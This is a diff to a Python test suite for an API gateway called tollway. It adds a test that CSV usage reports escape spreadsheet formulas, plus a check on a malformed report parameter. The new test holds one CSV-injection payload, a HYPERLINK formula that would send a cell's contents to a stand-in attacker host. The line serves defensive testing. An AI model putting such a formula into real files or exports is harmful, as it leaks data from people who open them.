@@ -4,6 +4,8 @@ upstream reported and the price dataset; the reports and `tollway usage` agree w
 records; spend and budgets survive a restart; nothing of a prompt reaches the database."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 import subprocess
@@ -236,6 +238,36 @@ def test_reports_agree_with_the_records_and_with_tollway_usage(gw, db, config_te
     assert table.returncode == 0 and "TOTAL" in table.stdout and "search" in table.stdout
 
 
+def test_tollway_usage_csv_never_hands_a_spreadsheet_a_formula(gw, db, config_text, tmp_path):
+    """A model name is the client's: `=HYPERLINK(...)` (a 404 still leaves a record) must come out
+    of `--format csv` as text, not a formula (OWASP: a leading ' before = + - @ tab CR)."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    raw = _client(gw).chat.completions.with_raw_response
+    plain = raw.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
+    record_of(db, plain.headers["x-request-id"])
+    with pytest.raises(openai.NotFoundError) as missing:
+        raw.create(model=formula, messages=[{"role": "user", "content": "x"}])
+    assert record_of(db, missing.value.response.headers["x-request-id"])["model"] == formula
+    config = tmp_path / "config.yaml"
+    config.write_text(config_text)
+    cli = subprocess.run([sys.executable, "-m", "tollway.gateway.cli", "usage", "--config", str(config), "--by", "model",
+                          "--since", "1h", "--format", "csv"], capture_output=True, text=True, cwd=ROOT, timeout=60)
+    assert cli.returncode == 0, cli.stderr
+    rows = list(csv.reader(io.StringIO(cli.stdout)))
+    models = [row[0] for row in rows[1:]]
+    assert "'" + formula in models and formula not in models
+    assert "gpt-4o-mini" in models, "a plain name is untouched"
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row if not _number(cell))
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
 def test_the_access_log_names_time_team_path_client_and_cost(gw):
     raw = _client(gw).chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
     rid = raw.headers["x-request-id"]
@@ -326,6 +358,7 @@ def test_a_ledger_migrated_by_a_newer_gateway_stops_serve_with_a_clear_message(t
     ("/admin/requests?status=99999999999999999999", "status"),
     ("/admin/requests?status=70000", "status"),
     ("/admin/requests?key=a%00b", "key"),
+    ("/admin/requests?status=200&limit=abc", "limit"),  # each value parsed on its own, named on its own
 ])
 def test_bad_report_parameters_are_a_400_naming_them(upstreams, db, path, param, config_text):
     gw = _shared_gateway(config_text)
